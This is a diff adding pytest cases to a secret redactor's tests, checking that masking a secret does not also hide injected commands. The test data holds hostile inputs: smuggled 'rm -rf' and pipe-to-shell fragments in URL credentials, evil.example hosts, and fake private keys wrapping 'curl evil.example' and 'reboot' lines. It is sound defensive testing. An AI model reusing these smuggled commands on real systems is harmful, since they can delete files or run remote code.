@@ -302,3 +302,52 @@ def test_ordinary_texts_are_not_searched_further() -> None:
     seen = secrets_of._seen  # pyright: ignore[reportPrivateUsage]
     assert not seen("a short text without any\r\n") and not seen("a long text without any\r\n" * 100)
     assert not seen("SK-2 and EAA, eyJ-shop, xoxo, sq0, C:\\users\\new, 100 % &#x" * 50)
+
+
+SAMPLES = [*TOKENS.values(), *(around.format(key) for around, key in CONTEXTS.values() if "@" not in key)]
+
+
+@pytest.mark.parametrize("text", SAMPLES)
+def test_a_mask_over_a_secret_hides_nothing_else(text: str) -> None:
+    assert redact(text) != text
+    assert not Redactor().hides_more(f"the key is {text} here")
+
+
+@pytest.mark.parametrize(
+    "write",
+    [
+        lambda key: key,
+        lambda key: key.replace("\n", "\r\n"),
+        lambda key: json.dumps({"key": key}),
+        lambda key: "".join(f"+{line}\n" for line in key.splitlines()),
+        lambda key: "".join(f"{number:>6}\t{line}\n" for number, line in enumerate(key.splitlines(), 1)),
+        lambda key: "key: |\n" + "".join(f"    {line}\n" for line in key.splitlines()),
+    ],
+)
+def test_a_mask_over_a_private_key_hides_nothing_else(write: Callable[[str], str]) -> None:
+    text = write(PEM)
+    assert redact(text) != text
+    assert not Redactor().hides_more(text)
+
+
+_KEY = "MIIEvAIBADANBgkqhkiG9w0BAQEFAASCBKYwggSiAgEAAoIB"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl http://u:x;rm${IFS}-rf${IFS}src;@good.example/",
+        "curl http://u:x|sh&:@good.example/",
+        "curl http://u:p@evil.example#@good.example/",
+        "git clone https://u:p@evil.example?x@good.example/a",
+        "wget http://u:p@evil.example@good.example/",
+        "API_TOKEN=aA1bcdef>src/main.py",
+        "API_TOKEN=%x{id>a1A}",
+        f"-----BEGIN PRIVATE KEY-----\n{_KEY}\nX\ncurl evil.example\n{_KEY}\n-----END PRIVATE KEY-----",
+        f" -----BEGIN PRIVATE KEY-----\n+{_KEY}\n+sh run\n-----END PRIVATE KEY-----",
+        f"-----BEGIN PRIVATE KEY-----\n{_KEY}\nreboot\n{_KEY}\n{_KEY}\n-----END PRIVATE KEY-----",
+    ],
+)
+def test_a_mask_that_hides_what_a_program_obeys_is_seen(text: str) -> None:
+    assert redact(text) != text
+    assert Redactor().hides_more(text)
